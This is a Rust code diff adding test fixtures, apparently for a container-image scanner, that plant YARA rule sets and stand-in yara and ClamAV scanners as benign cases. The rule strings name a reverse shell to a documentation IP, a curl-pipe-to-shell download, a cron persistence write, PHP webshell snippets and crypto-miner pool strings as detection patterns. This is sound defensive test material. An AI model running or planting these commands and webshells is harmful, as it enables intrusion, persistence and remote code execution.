@@ -3,7 +3,8 @@
 use crate::group;
 use crate::programs;
 use crate::shape::{Planted, Shape, clean};
-use crate::wallet::monero;
+use test_support::standin;
+use test_support::wallet::monero;
 
 fn web() -> Planted {
     Planted::debian().cmd(&["python3", "-m", "http.server"])
@@ -20,6 +21,69 @@ pub(crate) fn shapes() -> Vec<Shape> {
             }),
             clean("rules of a scanner", |_| {
                 web().file("usr/share/yara/miners.yar", "rule xmrig_strings {\n  strings:\n    $a = \"donate.v2.xmrig.com\"\n    $b = \"stratum+tcp://\"\n    $c = \"bash -i >& /dev/tcp/\"\n    $d = \"cpu-max-threads-hint\"\n  condition: 2 of them\n}\n")
+            }),
+            clean("rules for YARA by the hundred, and the scanner that reads them", |_| {
+                let rule = |name: &str, texts: &[&str]| {
+                    let strings: String = texts
+                        .iter()
+                        .enumerate()
+                        .map(|(n, text)| format!("    $s{n} = \"{text}\" ascii wide\n"))
+                        .collect();
+                    format!(
+                        "rule {name} {{\n  meta:\n    author = \"someone\"\n  strings:\n{strings}  condition:\n    2 of them\n}}\n"
+                    )
+                };
+                let many: String = (0..300)
+                    .map(|n| {
+                        rule(
+                            &format!("MAL_{n}"),
+                            &[&format!("pool{n}.example:3333"), "stratum+tcp://", "cmd.exe /c"],
+                        )
+                    })
+                    .collect();
+                Planted::debian()
+                    .script("usr/local/bin/yara", standin::program("an honest scanner"))
+                    .file(
+                        "opt/rules/index.yar",
+                        "include \"./malware/MINER.yar\"\ninclude \"./webshells/PHP.yar\"\n",
+                    )
+                    .file("opt/rules/malware/MINER.yar", many)
+                    .file(
+                        "opt/rules/malware/LINUX.yar",
+                        rule(
+                            "Linux_Shells",
+                            &[
+                                "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
+                                "curl http://198.51.100.1/x | sh",
+                                "/etc/ld.so.preload",
+                                "readdir64",
+                                "nr_hugepages",
+                                "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
+                            ],
+                        ),
+                    )
+                    .file(
+                        "opt/rules/webshells/PHP.yar",
+                        rule(
+                            "Php_Shell",
+                            &[
+                                "<?php @eval($_POST['x']); ?>",
+                                "eval(gzinflate(base64_decode(",
+                                "system($_GET['cmd'])",
+                            ],
+                        ),
+                    )
+                    .file("opt/rules/malware/wallets.yar", rule("Wallets", &[&monero(21), &monero(22)]))
+                    .entry(&["yara", "-r", "-w", "/opt/rules/index.yar"])
+                    .cmd(&["/data"])
+            }),
+            clean("virus scanner that updates itself", |_| {
+                Planted::debian()
+                    .script("usr/sbin/clamd", standin::program("an honest scanner"))
+                    .script("usr/bin/freshclam", standin::program("an honest updater"))
+                    .file("var/lib/clamav/main.cvd", b"ClamAV-VDB:16 Sep 2021 08-32 -0400:62:6647427:90:\0\x1f\x8b\x08\0\0\0\0\0")
+                    .script("init-scanner", "#!/bin/sh\nset -eu\nif [ ! -f /var/lib/clamav/main.cvd ]; then\n  freshclam --foreground --stdout\nfi\nfreshclam --checks=\"${FRESHCLAM_CHECKS:-1}\" --daemon --foreground --stdout --user=clamav &\nclamd --foreground &\nwhile [ ! -S /run/clamav/clamd.sock ]; do sleep 1; done\nexec tail -f /dev/null\n")
+                    .entry(&["/init-scanner"])
             }),
             clean("list of names to block", |_| {
                 let hosts: String = (0..400).map(|n| format!("0.0.0.0 pool{n}.example\n")).collect();
